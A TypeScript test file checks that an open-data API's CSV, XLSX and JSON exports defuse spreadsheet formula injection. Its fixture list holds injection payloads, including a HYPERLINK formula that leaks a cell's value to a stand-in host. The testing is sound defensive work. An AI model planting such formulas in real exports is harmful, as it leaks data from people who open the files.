// Exports are safe to open in a spreadsheet: a stored text that begins like a formula (=, +, -,
// @, =HYPERLINK(...); the API trims a leading tab or line break before storing) is written to CSV with a leading single quote, so Excel and
// LibreOffice show it as text (OWASP's advice against CSV injection); numbers stay numbers;
// XLSX stores the text as a string cell, never a formula; JSON and JSON Lines keep the
// stored text; and the quoted CSV imports back to the same text.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tokenFor } from '../support/factories.ts';
import { type OpenDataApi, startOpenDataApi } from './support.ts';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("https://example.invalid/?leak="&A1,"詳しくはこちら")',
  "'=already quoted",
];
const KYOIKU_2012 = 'municipality=132047&fiscalYear=2012&department=kyoiku';

let api: OpenDataApi;
let planning: string;

beforeAll(async () => {
  api = await startOpenDataApi();
  planning = await tokenFor(api.db.prisma, {
    name: '企画',
    role: 'PLANNING',
    municipality: '132047',
  });
  const { plan } = await api.graphql(
    '{ plan(municipality: "132047", department: "kyoiku", fiscalYear: 2012) { id version } }',
  );
  const { updatePlan } = await api.graphql(
    `mutation ($input: UpdatePlanInput!) { updatePlan(input: $input) { __typename } }`,
    {
      input: {
        id: plan.id,
        expectedVersion: plan.version,
        staffCount: 35,
        budgetYen: 1_443_000_000,
      },
    },
    planning,
  );
  expect(updatePlan.__typename).toBe('UpdatePlanSuccess');
  for (const text of FORMULAS) {
    const { addInitiative } = await api.graphql(
      `mutation ($input: AddInitiativeInput!) { addInitiative(input: $input) { __typename ... on Error { message } } }`,
      { input: { plan: plan.id, text, footnotes: [text] } },
      planning,
    );
    expect(addInitiative.__typename, JSON.stringify(addInitiative)).toBe('AddInitiativeSuccess');
  }
});
afterAll(() => api?.close());

async function download(path: string) {
  const response = await api.fetch(path);
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

describe('an export opened in a spreadsheet', () => {
  it('CSV: every formula-looking text starts with a single quote, so it opens as text', async () => {
    const csv = (await download(`/export/initiatives.csv?${KYOIKU_2012}`)).toString('utf8');
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const texts = rows.map((row) => row.text ?? '');
    for (const formula of FORMULAS) expect(texts).toContain(`'${formula}`);
    // A plain text is left alone; a list is a JSON array, which no spreadsheet runs.
    expect(texts.filter((text) => !text.startsWith("'"))).toHaveLength(
      rows.length - FORMULAS.length,
    );
    expect(rows.map((row) => row.footnotes)).toContain(JSON.stringify(['=1+1']));
  });

  it('CSV: numbers stay numbers (no column may be negative: the database checks it)', async () => {
    const csv = (await download(`/export/plans.csv?${KYOIKU_2012}`)).toString('utf8');
    const [plan] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect([plan?.staffCount, plan?.budgetYen]).toEqual(['35', '1443000000']);
  });

  it('the field dictionary as CSV has no cell a spreadsheet would run', async () => {
    const csv = (await download('/export/dictionary.csv')).toString('utf8');
    const rows = parse(csv, { bom: true }) as string[][];
    const starts = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(starts).toEqual([]);
  });

  it('XLSX: the texts are string cells, never formulas, and unchanged', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await download(`/export/initiatives.xlsx?${KYOIKU_2012}`)) as unknown as ArrayBuffer,
    );
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const textColumn = header.indexOf('text') + 1;
    const cells = [];
    for (let row = 2; row <= sheet.rowCount; row++)
      cells.push(sheet.getRow(row).getCell(textColumn));
    for (const formula of FORMULAS) {
      const cell = cells.find((c) => c.value === formula);
      expect(cell, formula).toBeDefined();
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
    }
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it('JSON and JSON Lines keep the stored text as it is', async () => {
    const json = JSON.parse((await download(`/export/initiatives.json?${KYOIKU_2012}`)).toString());
    const lines = (await download(`/export/initiatives.jsonl?${KYOIKU_2012}`))
      .toString()
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    for (const records of [json, lines]) {
      const texts = records.map((record: { text: string }) => record.text);
      for (const formula of FORMULAS) expect(texts).toContain(formula);
      expect(texts.filter((text: string) => text.startsWith("''"))).toEqual([]);
    }
  });

  it('the quoted CSV imports back to the stored texts: a dry run changes nothing', async () => {
    const csv = await download(`/export/initiatives.csv?${KYOIKU_2012}`);
    const response = await api.fetch('/import/initiatives?format=csv&dryRun=true', {
      method: 'POST',
      body: new Uint8Array(csv),
      token: planning,
      headers: { 'content-type': 'application/octet-stream' },
    });
    const { report } = (await response.json()) as any;
    expect(response.status).toBe(200);
    expect(report.counts).toMatchObject({ updated: 0, created: 0, rejected: 0 });
    expect(report.counts.unchanged).toBeGreaterThanOrEqual(FORMULAS.length);
  });
});
